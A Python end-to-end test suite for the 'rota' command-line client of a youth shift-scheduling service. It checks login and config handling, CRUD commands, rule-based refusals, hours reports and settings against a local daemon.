# SPDX-License-Identifier: ISC
"""End-to-end tests of the rota command-line client against a real rotad.

Each test runs the `rota` binary (path in $ROTA) with its own temporary
XDG config and cache directories, ROTA_SERVER/ROTA_TOKEN pointing at the
class's daemon on a free loopback port, and TZ=Europe/Oslo so that local
times are predictable.  Only the Python standard library is used.
"""
import csv
import datetime
import io
import json
import os
import pty
import re
import select
import shutil
import stat
import subprocess
import tempfile
import threading
import unittest
import zoneinfo
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from harness import RotadTestCase, base_instance

ROTA = os.environ.get("ROTA", "rota")
OSLO = zoneinfo.ZoneInfo("Europe/Oslo")

EXIT_OK, EXIT_SERVER, EXIT_USAGE, EXIT_REFUSED = 0, 1, 2, 3

COMMANDS = ["shifts", "next", "login", "homes", "youths", "slots",
            "assignments", "assign", "unassign", "cancel", "schedule",
            "publish", "violations", "hours", "settings", "school-calendar",
            "school-calendars", "import",
            "export", "feed", "users"]


def today_oslo():
    return datetime.datetime.now(OSLO).date()


EN_WEEKDAYS = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday",
               "Saturday", "Sunday"]
EN_MONTHS = ["January", "February", "March", "April", "May", "June", "July",
             "August", "September", "October", "November", "December"]


def en_date(d):
    """A date as the client writes it in English ("Monday 4 January",
    with the year when it is not this year)."""
    s = "%s %d %s" % (EN_WEEKDAYS[d.weekday()], d.day, EN_MONTHS[d.month - 1])
    return s if d.year == today_oslo().year else "%s %d" % (s, d.year)


class ClientCase(RotadTestCase):
    """A daemon per class, fresh XDG directories and data per test."""

    def setUp(self):
        self.home = tempfile.mkdtemp(prefix="rota-client-")
        self.config_home = os.path.join(self.home, "config")
        self.cache_home = os.path.join(self.home, "cache")
        inst = base_instance()
        # A visit in a few days, so "rota next" and the default period
        # (today and the next 14 days) have something to show.
        soon = today_oslo() + datetime.timedelta(days=3)
        self.soon = soon
        inst["slots"].append({"id": "soon", "home": "lia",
                              "start": "%sT16:00" % soon,
                              "end": "%sT18:00" % soon,
                              "activity": "Vafler"})
        inst["assignments"].append({"slot": "soon", "youth": "ola"})
        self.ok("POST", "/api/v1/import?force=true", inst)

    def tearDown(self):
        shutil.rmtree(self.home, ignore_errors=True)

    @property
    def server(self):
        return "http://127.0.0.1:%d" % self.daemon.port

    def env(self, server=True, **extra):
        e = {k: v for k, v in os.environ.items()
             if not k.startswith("ROTA_") and not k.startswith("XDG_")}
        e.update(HOME=self.home, XDG_CONFIG_HOME=self.config_home,
                 XDG_CACHE_HOME=self.cache_home, TZ="Europe/Oslo",
                 LC_ALL="C.UTF-8")
        if server:
            e.update(ROTA_SERVER=self.server, ROTA_TOKEN=self.api_token)
        e.update(extra)
        return e

    def rota(self, *args, server=True, input=None, env=None):
        return subprocess.run([ROTA] + [str(a) for a in args],
                              env=env or self.env(server), input=input,
                              capture_output=True, text=True, timeout=60)

    def ok_rota(self, *args, **kw):
        r = self.rota(*args, **kw)
        self.assertEqual(r.returncode, EXIT_OK,
                         "rota %s -> %d\nstdout: %s\nstderr: %s"
                         % (" ".join(map(str, args)), r.returncode,
                            r.stdout, r.stderr))
        return r

    def fails(self, code, *args, **kw):
        r = self.rota(*args, **kw)
        self.assertEqual(r.returncode, code,
                         "rota %s -> %d (wanted %d)\nstdout: %s\nstderr: %s"
                         % (" ".join(map(str, args)), r.returncode, code,
                            r.stdout, r.stderr))
        self.assertTrue(r.stderr.startswith("rota: ")
                        or r.stderr.startswith("usage: "), r.stderr)
        return r

    def feed_url(self, kind="youth", ident="ida"):
        links = json.loads(self.ok_rota("feed", kind, ident, "--rotate",
                                        "--json").stdout)
        return links["url"]

    def log_count(self, line):
        return self.daemon.read_log().count(line)


class ClientTest(ClientCase):

    # ---- the tool itself ----

    def test_help_lists_every_command_and_each_has_help(self):
        r = self.ok_rota("--help", server=False)
        for c in COMMANDS:
            self.assertIn("  " + c, r.stdout)
            h = self.ok_rota(c, "--help", server=False)
            self.assertTrue(h.stdout.startswith("usage: rota " + c), h.stdout)
            self.assertEqual(h.stderr, "")
        self.assertIn("usage: rota hours",
                      self.ok_rota("help", "hours", server=False).stdout)

    def test_usage_errors_exit_2(self):
        self.fails(EXIT_USAGE, server=False)
        r = self.fails(EXIT_USAGE, "frobnicate", server=False)
        self.assertIn("'frobnicate' is not a rota command", r.stderr)
        self.fails(EXIT_USAGE, "assign", "s1")
        self.fails(EXIT_USAGE, "homes", "list", "--bogus")
        self.fails(EXIT_USAGE, "hours", "--month", "2027-13")
        self.fails(EXIT_USAGE, "shifts", "--from", "2027-02-30",
                   "http://x/feeds/a.ics")
        self.fails(EXIT_USAGE, "shifts", "ftp://example.org/x.ics")
        self.fails(EXIT_USAGE, "schedule", "--from", "2027-01-01")

    def test_version(self):
        r = self.ok_rota("--version", server=False)
        self.assertRegex(r.stdout, r"^rota \d+\.\d+\.\d+\n$")

    # ---- configuration ----

    def test_login_writes_a_0600_config_and_later_calls_use_it(self):
        r = self.ok_rota("login", self.server + "/", server=False,
                         input=self.api_token + "\n")
        self.assertEqual(r.stdout, "")
        path = os.path.join(self.config_home, "rota", "config")
        self.assertEqual(stat.S_IMODE(os.stat(path).st_mode), 0o600)
        text = open(path).read()
        self.assertIn("server %s\n" % self.server, text)
        self.assertIn("token %s\n" % self.api_token, text)
        # No environment now: the stored pair is used.
        r = self.ok_rota("homes", "list", server=False)
        self.assertIn("solheim", r.stdout)
        # The environment overrides the file.
        bad = self.env(server=False, ROTA_TOKEN="rota_wrongwrongwrong")
        r = self.fails(EXIT_SERVER, "homes", "list", env=bad)
        self.assertIn("401", r.stderr)
        self.assertIn("token", r.stderr)

    def test_login_with_a_wrong_token_stores_nothing(self):
        r = self.fails(EXIT_SERVER, "login", self.server, server=False,
                       input="rota_notatokennotatokennotatoken\n")
        self.assertIn("unauthorized", r.stderr)
        self.assertFalse(os.path.exists(
            os.path.join(self.config_home, "rota", "config")))
        self.fails(EXIT_USAGE, "login", self.server, server=False, input="")

    def test_no_server_configured(self):
        r = self.fails(EXIT_USAGE, "homes", "list", server=False)
        self.assertIn("rota login", r.stderr)

    def test_an_api_url_as_the_server_says_what_to_use(self):
        for url in (self.server + "/api/v1", self.server + "/api/v1/",
                    self.server + "/api"):
            r = self.fails(EXIT_USAGE, "homes", "list",
                           env=self.env(ROTA_SERVER=url))
            self.assertIn("give the server's base URL, '%s'" % self.server,
                          r.stderr)
            self.assertEqual(r.stderr.count("\n"), 1, r.stderr)
            # login refuses it before asking for the token.
            r = self.fails(EXIT_USAGE, "login", url, server=False,
                           input=self.api_token + "\n")
            self.assertIn("'%s'" % self.server, r.stderr)
            self.assertNotIn("API token", r.stderr)
            self.assertFalse(os.path.exists(
                os.path.join(self.config_home, "rota", "config")))
        # A server under a path of its own is fine.
        r = self.fails(EXIT_SERVER, "homes", "list",
                       env=self.env(ROTA_SERVER=self.server + "/rota"))
        self.assertNotIn("base URL", r.stderr)

    # ---- homes, youths, slots ----

    def test_homes_crud(self):
        r = self.ok_rota("homes", "add", "--name", "Kampen omsorg+",
                         "--address", "Bøgata 21")
        self.assertEqual(r.stdout, "kampen-omsorg\n")
        show = self.ok_rota("homes", "show", "kampen-omsorg").stdout
        self.assertRegex(show, r"(?m)^name +Kampen omsorg\+$")
        self.assertRegex(show, r"(?m)^address +Bøgata 21$")
        r = self.ok_rota("homes", "edit", "kampen-omsorg", "--address",
                         "Bøgata 23")
        self.assertEqual(r.stdout, "")
        got = json.loads(self.ok_rota("homes", "show", "kampen-omsorg",
                                      "--json").stdout)
        self.assertEqual(got["address"], "Bøgata 23")
        self.ok_rota("homes", "edit", "kampen-omsorg", "--unset", "address")
        got = json.loads(self.ok_rota("homes", "show", "kampen-omsorg",
                                      "--json").stdout)
        self.assertNotIn("address", got)
        lines = self.ok_rota("homes", "list").stdout.splitlines()
        self.assertEqual(lines[0].split(), ["ID", "NAME", "ADDRESS"])
        self.assertEqual([l.split()[0] for l in lines[1:]],
                         ["kampen-omsorg", "lia", "solheim"])
        # Columns line up: every row's NAME starts where the header's does.
        col = lines[0].index("NAME")
        for l in lines[1:]:
            self.assertEqual(l[col - 2:col], "  ")
            self.assertNotEqual(l[col], " ")
        listed = json.loads(self.ok_rota("homes", "list", "--json").stdout)
        self.assertEqual(len(listed), 3)
        self.assertEqual(self.ok_rota("homes", "rm", "kampen-omsorg").stdout,
                         "")
        r = self.fails(EXIT_SERVER, "homes", "show", "kampen-omsorg")
        self.assertIn("no home has id 'kampen-omsorg'", r.stderr)
        self.assertIn("404", r.stderr)
        # A home with slots cannot go.
        r = self.fails(EXIT_SERVER, "homes", "rm", "solheim")
        self.assertIn("conflict", r.stderr)

    def test_add_says_where_a_made_id_came_from(self):
        r = self.ok_rota("homes", "add", "--name", "Kampen omsorg+")
        self.assertEqual(r.stdout, "kampen-omsorg\n")   # for scripts
        self.assertEqual(r.stderr, "rota: the new home's id is "
                         "'kampen-omsorg' (made from its name; --id "
                         "chooses one)\n")
        r = self.ok_rota("youths", "add", "--name", "Kari Nordmann",
                         "--birth-date", "2010-02-03", "--school",
                         "compulsory")
        self.assertIn("id is '%s'" % r.stdout.strip(), r.stderr)
        r = self.ok_rota("slots", "add", "--home", "lia", "--start",
                         "2027-01-12T16:00", "--end", "2027-01-12T18:00")
        self.assertIn("id is '%s' (made from its home and start"
                      % r.stdout.strip(), r.stderr)
        # A chosen id needs no word; JSON carries the id itself.
        r = self.ok_rota("homes", "add", "--id", "h9", "--name", "Ni")
        self.assertEqual((r.stdout, r.stderr), ("h9\n", ""))
        r = self.ok_rota("homes", "add", "--name", "Tiende", "--json")
        self.assertEqual(json.loads(r.stdout)["id"], "tiende")
        self.assertEqual(r.stderr, "")

    def test_youths_crud_with_list_flags(self):
        r = self.ok_rota("youths", "add", "--id", "kari", "--name",
                         "Kari Berg", "--birth-date", "2010-06-01",
                         "--school", "compulsory", "--guardian-consent",
                         "2026-09-01", "--skill", "leader", "--skill",
                         "piano", "--available", "mon,wed 15:00-19:00",
                         "--available", "sat 10:00-14:00", "--home", "lia",
                         "--max-week-hours", "7.5", "--unavailable",
                         "2027-01-10T00:00/2027-01-12T00:00")
        self.assertEqual(r.stdout, "kari\n")
        y = json.loads(self.ok_rota("youths", "show", "kari",
                                    "--json").stdout)
        self.assertEqual(y["skills"], ["leader", "piano"])
        self.assertEqual(y["availability"][0],
                         {"days": ["mon", "wed"], "from": "15:00",
                          "to": "19:00"})
        self.assertEqual(y["homes"], ["lia"])
        self.assertEqual(y["max_week_hours"], 7.5)
        self.assertEqual(y["unavailable"],
                         [{"from": "2027-01-10T00:00",
                           "to": "2027-01-12T00:00"}])
        self.ok_rota("youths", "edit", "kari", "--skill", "chess")
        y = json.loads(self.ok_rota("youths", "show", "kari",
                                    "--json").stdout)
        self.assertEqual(y["skills"], ["chess"])
        listed = self.ok_rota("youths", "list", "--home", "lia").stdout
        self.assertIn("Kari Berg", listed)
        r = self.fails(EXIT_SERVER, "youths", "edit", "kari", "--birth-date",
                       "2010-02-30")
        self.assertIn("birth_date", r.stderr)
        self.fails(EXIT_USAGE, "youths", "add", "--available", "mon")
        self.ok_rota("youths", "rm", "kari")
        self.fails(EXIT_SERVER, "youths", "show", "kari")

    def test_slots_crud_and_filters(self):
        r = self.ok_rota("slots", "add", "--id", "s9", "--home", "lia",
                         "--start", "2027-02-01T16:00", "--end",
                         "2027-02-01T18:00", "--needed", "2", "--activity",
                         "Bingo", "--require", "leader=1", "--min-age", "15")
        self.assertEqual(r.stdout, "s9\n")
        s = json.loads(self.ok_rota("slots", "show", "s9", "--json").stdout)
        self.assertEqual(s["requires"], {"leader": 1})
        self.assertEqual(s["needed"], 2)
        self.assertEqual(s["min_age"], 15)
        self.ok_rota("slots", "edit", "s9", "--activity", "Quiz")
        self.assertRegex(self.ok_rota("slots", "show", "s9").stdout,
                         r"(?m)^activity +Quiz$")
        feb = self.ok_rota("slots", "list", "--from", "2027-02-01", "--to",
                           "2027-02-28").stdout.splitlines()
        self.assertEqual([l.split()[0] for l in feb[1:]], ["s9"])
        lia = self.ok_rota("slots", "list", "--home", "solheim").stdout
        self.assertNotIn("s9", lia)
        self.assertIn("s1", lia)
        r = self.fails(EXIT_SERVER, "slots", "add", "--home", "lia",
                       "--start", "2027-01-04T16:00", "--end",
                       "2027-01-04T15:00")
        self.assertIn("[field 'end']", r.stderr)
        self.ok_rota("slots", "rm", "s9")

    # ---- assignments and the rules ----

    def test_assign_list_show_unassign(self):
        r = self.ok_rota("assign", "s3", "ola")
        aid = r.stdout.strip()
        self.assertRegex(aid, r"^a\d+$")
        listed = self.ok_rota("assignments", "list", "--youth",
                              "ola").stdout
        self.assertIn(aid, listed)
        a = json.loads(self.ok_rota("assignments", "show", aid,
                                    "--json").stdout)
        self.assertEqual((a["slot"], a["youth"], a["status"]),
                         ("s3", "ola", "active"))
        self.ok_rota("unassign", aid)
        self.assertNotIn(aid, self.ok_rota("assignments", "list").stdout)
        r = self.fails(EXIT_SERVER, "unassign", aid)
        self.assertIn("no assignment has id", r.stderr)
        r = self.fails(EXIT_SERVER, "assign", "nosuchslot", "ola")
        self.assertIn("no slot has id 'nosuchslot'", r.stderr)

    def test_assignments_offer_only_what_exists_and_move(self):
        h = self.ok_rota("assignments", "--help", server=False).stdout
        self.assertTrue(h.startswith(
            "usage: rota assignments list|show|move ...\n"), h)
        for gone in ("add", "edit", "rm "):
            self.assertNotIn("assignments " + gone, h)
        self.assertIn("list, show and move assignments",
                      self.ok_rota("--help", server=False).stdout)
        for gone in ("add", "edit", "rm"):
            self.fails(EXIT_USAGE, "assignments", gone, "x")
        aid = self.ok_rota("assign", "s3", "ola").stdout.strip()
        self.ok("PATCH", "/api/v1/assignments/" + aid, {"pinned": False})
        # Another slot: pinned, so the solver leaves it there.
        r = self.ok_rota("assignments", "move", aid, "--slot", "s2")
        self.assertEqual((r.stdout, r.stderr), ("", ""))
        a = json.loads(self.ok_rota("assignments", "show", aid,
                                    "--json").stdout)
        self.assertEqual((a["slot"], a["youth"], a["pinned"]),
                         ("s2", "ola", True))
        # Another youth, as JSON.
        a = json.loads(self.ok_rota("assignments", "move", aid, "--youth",
                                    "ida", "--json").stdout)
        self.assertEqual((a["id"], a["slot"], a["youth"]),
                         (aid, "s2", "ida"))
        self.fails(EXIT_USAGE, "assignments", "move", aid)
        self.fails(EXIT_USAGE, "assignments", "move", "--slot", "s1")
        # Onto a slot where that youth is already: the server's conflict.
        r = self.fails(EXIT_SERVER, "assignments", "move", aid, "--slot",
                       "s1")
        self.assertIn("409", r.stderr)
        # A move that breaks a rule is refused, then forced.
        self.ok_rota("slots", "add", "--id", "long", "--home", "lia",
                     "--start", "2027-01-05T15:30", "--end",
                     "2027-01-05T18:01")
        r = self.fails(EXIT_REFUSED, "assignments", "move", aid, "--slot",
                       "long")
        self.assertIn("NO-AML-11-2-2a-day", r.stderr)
        r = self.ok_rota("assignments", "move", aid, "--slot", "long",
                         "--force")
        self.assertIn("forced", r.stderr)
        self.assertEqual(json.loads(self.ok_rota(
            "assignments", "show", aid, "--json").stdout)["slot"], "long")
        r = self.fails(EXIT_SERVER, "assignments", "move", "nosuch",
                       "--slot", "s1")
        self.assertIn("no assignment has id", r.stderr)

    def test_youths_rm_purge(self):
        # A youth with assignments: refused, with the way out named.
        r = self.fails(EXIT_SERVER, "youths", "rm", "ida")
        self.assertIn("409", r.stderr)
        self.assertIn("'rota youths rm ida --purge'", r.stderr)
        r = self.ok_rota("youths", "rm", "ida", "--purge")
        self.assertEqual((r.stdout, r.stderr), ("", ""))
        self.assertIn("DELETE /api/v1/youths/:id 204",
                      self.daemon.read_log())
        r = self.fails(EXIT_SERVER, "youths", "show", "ida")
        self.assertIn("no youth has id 'ida'", r.stderr)
        self.assertEqual(json.loads(self.ok_rota(
            "assignments", "list", "--youth", "ida", "--json").stdout), [])
        # Not found: no hint.
        r = self.fails(EXIT_SERVER, "youths", "rm", "ida")
        self.assertNotIn("--purge", r.stderr)
        # Only youths can be purged.
        self.fails(EXIT_USAGE, "homes", "rm", "lia", "--purge")
        self.fails(EXIT_USAGE, "youths", "list", "--purge")

    def test_bash_completion_offers_what_exists(self):
        script = os.path.join(os.path.dirname(os.path.abspath(__file__)),
                              "..", "..", "client", "rota.bash-completion")

        def complete(*words):
            cmd = ('source "$1"; shift; COMP_WORDS=("$@"); '
                   'COMP_CWORD=$(($# - 1)); _rota; '
                   'printf "%s\\n" "${COMPREPLY[@]}"')
            r = subprocess.run(["bash", "--norc", "-c", cmd, "bash", script,
                                "rota"] + list(words),
                               capture_output=True, text=True, timeout=60)
            self.assertEqual(r.returncode, 0, r.stderr)
            return set(r.stdout.split())
        self.assertEqual(complete("assignments", ""),
                         {"list", "show", "move", "--help"})
        self.assertIn("--slot", complete("assignments", "move", "a1", "--"))
        self.assertIn("--purge", complete("youths", "rm", "ida", "--"))
        self.assertNotIn("--purge", complete("homes", "rm", "lia", "--"))
        self.assertEqual(complete("homes", ""),
                         {"list", "show", "add", "edit", "rm", "--help"})
        self.assertIn("users", complete("u"))
        self.assertEqual(complete("users", ""),
                         {"list", "add", "passwd", "rm", "--help"})
        self.assertIn("--invite", complete("users", "add", "kari", "--"))
        self.assertEqual(complete("users", "add", "kari", "--role", ""),
                         {"admin", "coordinator", "viewer"})

    def test_refused_change_lists_the_violations_and_exits_3(self):
        self.ok_rota("slots", "add", "--id", "long", "--home", "lia",
                     "--start", "2027-01-05T15:30", "--end",
                     "2027-01-05T18:01")
        r = self.fails(EXIT_REFUSED, "assign", "long", "ida")
        self.assertEqual(r.stdout, "")
        err = r.stderr
        self.assertIn("refused", err)
        self.assertIn("NO-AML-11-2-2a-day", err)          # rule
        self.assertIn("youth ida", err)                   # youth
        self.assertIn(", Tuesday 5 January 2027", err)     # day
        self.assertIn("2 h", err)                         # the limit
        self.assertRegex(err, r"reference: AML § 11-2 \(2\) a")  # reference
        self.assertIn("--force", err)
        # Nothing was stored.
        self.assertNotIn("long", self.ok_rota("assignments", "list").stdout)
        self.assertEqual(self.ok_rota("violations").stdout, "")
        # A slot edit that breaks a rule is refused the same way.
        r = self.fails(EXIT_REFUSED, "slots", "edit", "s1", "--end",
                       "2027-01-04T18:01")
        self.assertIn("NO-AML-11-2-2a-day", r.stderr)
        # Forced, it is stored with a warning and shows as a violation.
        r = self.ok_rota("assign", "long", "ida", "--force")
        self.assertIn("forced", r.stderr)
        self.assertIn("NO-AML-11-2-2a-day", r.stderr)
        v = self.ok_rota("violations", "--from", "2027-01-01", "--to",
                         "2027-01-31").stdout
        self.assertIn("NO-AML-11-2-2a-day: youth ida, Tuesday 5 January "
                      "2027", v)
        vj = json.loads(self.ok_rota("violations", "--json").stdout)
        self.assertIn("NO-AML-11-2-2a-day", {x["rule"] for x in vj})
        none = self.ok_rota("violations", "--from", "2027-03-01", "--to",
                            "2027-03-31")
        self.assertEqual(none.stdout, "")

    def test_cancel_and_refill(self):
        aid = json.loads(self.ok_rota("assignments", "list", "--slot", "s1",
                                      "--json").stdout)[0]["id"]
        self.assertEqual(self.ok_rota("cancel", aid).stdout, "")
        a = json.loads(self.ok_rota("assignments", "show", aid,
                                    "--json").stdout)
        self.assertEqual(a["status"], "cancelled")
        r = self.fails(EXIT_SERVER, "cancel", aid)
        self.assertIn("already cancelled", r.stderr)
        # --refill: the server cancels and, in the same transaction, puts
        # another youth who may legally go on the slot, or says why not.
        aid = self.ok_rota("assign", "s3", "ola").stdout.strip()
        r = self.rota("cancel", aid, "--refill")
        self.assertEqual(r.returncode, EXIT_OK, r.stderr)
        a = json.loads(self.ok_rota("assignments", "show", aid,
                                    "--json").stdout)
        self.assertEqual(a["status"], "cancelled")
        m = re.match(r"^replaced by (\S+) \(assignment (\S+)\)\n$", r.stdout)
        if m:
            self.assertNotEqual(m.group(1), "ola")
            b = json.loads(self.ok_rota("assignments", "show", m.group(2),
                                        "--json").stdout)
            self.assertEqual((b["slot"], b["youth"], b["status"]),
                             ("s3", m.group(1), "active"))
        else:
            self.assertRegex(r.stdout, r"^no replacement: .+\n$")

    def test_schedule_dry_run_real_run_and_errors(self):
        before = self.ok_rota("assignments", "list").stdout
        dry = json.loads(self.ok_rota("schedule", "--from", "2027-01-01",
                                      "--to", "2027-01-31", "--dry-run",
                                      "--json").stdout)
        self.assertTrue(dry["dry_run"])
        self.assertTrue(dry["assigned"], dry)   # open positions exist
        r = self.ok_rota("schedule", "--from", "2027-01-01", "--to",
                         "2027-01-31", "--dry-run")
        lines = r.stdout.splitlines()
        self.assertEqual(lines[0].split(), ["ID", "SLOT", "YOUTH", "CHANGE"])
        self.assertEqual(sum(1 for l in lines if l.endswith(" assigned")),
                         len(dry["assigned"]))
        self.assertTrue(lines[-1].startswith(
            "dry run, nothing stored: %d assigned" % len(dry["assigned"])),
            lines[-1])
        self.assertEqual(self.ok_rota("assignments", "list").stdout, before)
        # For real: the table names what was stored.
        r = self.ok_rota("schedule", "--from", "2027-01-01", "--to",
                         "2027-01-31")
        made = {tuple(l.split()[:3]) for l in r.stdout.splitlines()
                if l.endswith(" assigned")}
        stored = json.loads(self.ok_rota("assignments", "list",
                                         "--json").stdout)
        self.assertEqual(made, {(a["id"], a["slot"], a["youth"])
                                for a in stored
                                if a["made_by"] == "solver"})
        self.assertTrue(made)
        self.assertRegex(r.stdout.splitlines()[-1],
                         r"^\d+ assigned, \d+ removed; \d+ of \d+ positions "
                         r"filled from Friday 1 January 2027 to Sunday 31 "
                         r"January 2027$")
        # The server's refusal is reported with its field.
        r = self.fails(EXIT_SERVER, "schedule", "--from", "2027-02-01",
                       "--to", "2027-01-01")
        self.assertIn("POST /api/v1/schedule", r.stderr)
        self.assertIn("[field 'to']", r.stderr)
        self.assertEqual(r.stdout, "")
        self.fails(EXIT_USAGE, "schedule", "--from", "2027-01-01", "--to",
                   "2027-01-31", "--seconds", "soon")

    def test_hours_per_youth_in_real_time(self):
        self.ok_rota("assign", "s3", "ola")
        cancelled = self.ok_rota("assign", "s2", "ida").stdout.strip()
        self.ok_rota("cancel", cancelled)
        # 01:00-04:00 on the night summer time starts is 2 real hours.
        self.ok_rota("slots", "add", "--id", "dst", "--home", "lia",
                     "--start", "2027-03-28T01:00", "--end",
                     "2027-03-28T04:00")
        self.ok_rota("assign", "dst", "ola", "--force")
        lines = self.ok_rota("hours", "--month", "2027-01").stdout
        rows = [l.split() for l in lines.splitlines()]
        self.assertEqual(rows[0], ["YOUTH", "NAME", "SHIFTS", "WORKED",
                                   "PLANNED"])
        # January 2027 is still ahead: planned, nothing worked yet.
        self.assertIn(["ida", "Ida", "Nilsen", "1", "0", "h", "2", "h"], rows)
        self.assertIn(["ola", "Ola", "Hansen", "1", "0", "h", "3", "h"], rows)
        self.assertEqual(rows[-1], ["total", "2", "0", "h", "5", "h"])
        c = list(csv.reader(io.StringIO(
            self.ok_rota("hours", "--month", "2027-03", "--csv").stdout)))
        self.assertEqual(c[0], ["youth", "name", "worked_shifts",
                                "worked_minutes", "worked_hours",
                                "planned_shifts", "planned_minutes",
                                "planned_hours"])
        self.assertEqual(c[1:], [["ola", "Ola Hansen", "0", "0", "0.00",
                                  "1", "120", "2.00"]])
        j = json.loads(self.ok_rota("hours", "--month", "2027-01",
                                    "--json").stdout)
        self.assertEqual({x["youth"]: x["planned"]["minutes"]
                          for x in j["youths"]},
                         {"ida": 120, "ola": 180})

    def test_hours_worked_and_purged(self):
        # A visit that is over is worked; a purged youth's worked hours
        # stay as an unnamed total for the home.
        self.ok_rota("slots", "add", "--id", "past", "--home", "lia",
                     "--start", "2026-11-07T11:00", "--end",
                     "2026-11-07T13:30", "--force")
        self.ok_rota("assign", "past", "ola", "--force")
        self.ok_rota("assign", "past", "ida", "--force")
        rows = [l.split() for l in self.ok_rota(
            "hours", "--month", "2026-11").stdout.splitlines()]
        self.assertIn(["ola", "Ola", "Hansen", "1", "2.5", "h", "0", "h"],
                      rows)
        self.ok_rota("youths", "rm", "ida", "--purge")
        out = self.ok_rota("hours", "--month", "2026-11").stdout
        rows = [l.split() for l in out.splitlines()]
        self.assertNotIn("Ida", out)
        self.assertIn(["(purged)", "home", "lia", "1", "2.5", "h", "0", "h"],
                      rows)
        self.assertEqual(rows[-1], ["total", "2", "5", "h", "0", "h"])
        c = list(csv.reader(io.StringIO(self.ok_rota(
            "hours", "--month", "2026-11", "--csv").stdout)))
        self.assertIn(["(purged)", "lia", "1", "150", "2.50", "0", "0",
                       "0.00"], c)

    # ---- settings and the school calendar ----

    def key_values(self, text):
        """'key  value' lines as a dict (continuation lines joined)."""
        out, last = {}, None
        for line in text.splitlines():
            if line.startswith(" "):
                out[last] += "; " + line.strip()
            else:
                last, value = re.match(r"^(\S+) {2,}(.*)$", line).groups()
                self.assertNotIn(last, out)
                out[last] = value
        return out

    def test_settings_show_text_and_json(self):
        r = self.ok_rota("settings")
        self.assertEqual(r.stderr, "")
        self.assertEqual(self.key_values(r.stdout), {
            "jurisdiction": "NO",
            "timezone": "Europe/Oslo",
            "language": "nb",
            "rule_options": "none set (the profile's defaults)",
            "public_holidays": "the NO profile's own list",
            "options.travel_minutes": "30",
            "options.seconds": "5"})
        # Values line up in one column.
        lines = r.stdout.splitlines()
        self.assertEqual(len({re.match(r"^\S+ +", l).end() for l in lines}),
                         1, r.stdout)
        j = json.loads(self.ok_rota("settings", "--json").stdout)
        self.assertEqual(j, self.ok("GET", "/api/v1/settings"))
        # Nested switches and a holiday list are shown as set.
        self.ok("PUT", "/api/v1/settings", {
            "jurisdiction": "NO", "timezone": "Europe/Oslo",
            "rule_options": {"care_exemption_12_9g": True},
            "public_holidays": ["2027-05-17", "2027-12-25"],
            "options": {"travel_minutes": 10, "seconds": 7}})
        kv = self.key_values(self.ok_rota("settings").stdout)
        self.assertEqual(kv["rule_options.care_exemption_12_9g"], "true")
        self.assertEqual(kv["public_holidays"], "2027-05-17, 2027-12-25")
        self.assertEqual(kv["options.seconds"], "7")
        self.fails(EXIT_USAGE, "settings", "show")
        self.fails(EXIT_USAGE, "settings", "--force")

    def test_settings_set_changes_only_the_named_keys(self):
        # Values away from the defaults, which a bare PUT would reset.
        start = {"jurisdiction": "NO", "timezone": "Europe/Oslo",
                 "rule_options": {"no_work_before_lessons": True},
                 "public_holidays": ["2027-05-17"],
                 "options": {"travel_minutes": 30, "seconds": 7}}
        self.ok("PUT", "/api/v1/settings", start)
        r = self.ok_rota("settings", "set", "options.travel_minutes=45",
                         "rule_options.care_exemption_12_9g=true")
        self.assertEqual((r.stdout, r.stderr), ("", ""))
        want = json.loads(json.dumps(start))
        want["language"] = "nb"  # the NO jurisdiction's, shown as in effect
        want["options"]["travel_minutes"] = 45
        want["rule_options"]["care_exemption_12_9g"] = True
        self.assertEqual(self.ok("GET", "/api/v1/settings"), want)
        # JSON values (a list), strings, --unset, and --json output.
        r = self.ok_rota("settings", "set", "--json",
                         'public_holidays=["2027-05-17","2027-12-25"]',
                         "timezone=Europe/Berlin", "--unset",
                         "rule_options.no_work_before_lessons")
        got = self.ok("GET", "/api/v1/settings")
        self.assertEqual(json.loads(r.stdout), got)
        self.assertEqual(got["public_holidays"], ["2027-05-17", "2027-12-25"])
        self.assertEqual(got["timezone"], "Europe/Berlin")
        self.assertEqual(got["rule_options"], {"care_exemption_12_9g": True})
        self.assertEqual(got["options"], {"travel_minutes": 45, "seconds": 7})
        # A new jurisdiction with the old switch removed.
        self.ok_rota("settings", "set", "--unset", "rule_options",
                     "--unset", "public_holidays", "jurisdiction=EU",
                     "timezone=Europe/Oslo")
        got = self.ok("GET", "/api/v1/settings")
        self.assertEqual(got["jurisdiction"], "EU")
        self.assertEqual(got["rule_options"], {})
        self.assertNotIn("public_holidays", got)
        self.assertEqual(got["options"], {"travel_minutes": 45, "seconds": 7})

    def test_settings_set_refused_changes_nothing(self):
        self.ok("PUT", "/api/v1/settings", {
            "jurisdiction": "NO", "rule_options": {"care_exemption_12_9g":
                                                   True},
            "options": {"travel_minutes": 20, "seconds": 5}})
        before = self.ok("GET", "/api/v1/settings")
        # A value out of range: the server's field and message, exit 1.
        r = self.fails(EXIT_SERVER, "settings", "set",
                       "options.travel_minutes=45", "options.seconds=0")
        self.assertIn("PUT /api/v1/settings", r.stderr)
        self.assertIn("[field 'options.seconds']", r.stderr)
        self.assertIn("400 invalid_field", r.stderr)
        self.assertEqual(r.stdout, "")
        self.assertEqual(self.ok("GET", "/api/v1/settings"), before)
        # A switch the new jurisdiction does not have.
        r = self.fails(EXIT_SERVER, "settings", "set", "jurisdiction=EU")
        self.assertIn("[field 'rule_options.care_exemption_12_9g']",
                      r.stderr)
        r = self.fails(EXIT_SERVER, "settings", "set", "jurisdiction=XX")
        self.assertIn("[field 'jurisdiction']", r.stderr)
        r = self.fails(EXIT_SERVER, "settings", "set", "travel_minutes=45")
        self.assertIn("[field 'travel_minutes']", r.stderr)
        self.assertEqual(self.ok("GET", "/api/v1/settings"), before)
        # Bad arguments never reach the server.
        puts = self.log_count("PUT /api/v1/settings ")
        self.fails(EXIT_USAGE, "settings", "set")
        self.fails(EXIT_USAGE, "settings", "set", "=1")
        r = self.fails(EXIT_USAGE, "settings", "set", "seconds")
        self.assertIn("'seconds' is not KEY=VALUE", r.stderr)
        r = self.fails(EXIT_USAGE, "settings", "set", "jurisdiction.x=1")
        self.assertIn("'jurisdiction' is not an object", r.stderr)
        self.fails(EXIT_USAGE, "settings", "set", "options..seconds=1")
        r = self.fails(EXIT_USAGE, "settings", "set", "--unset",
                       "public_holidays")
        self.assertIn("'public_holidays' is not set", r.stderr)
        self.fails(EXIT_USAGE, "settings", "jurisdiction=EU")
        self.assertGreaterEqual(puts, 4)     # the refusals above
        self.assertEqual(self.log_count("PUT /api/v1/settings "), puts)
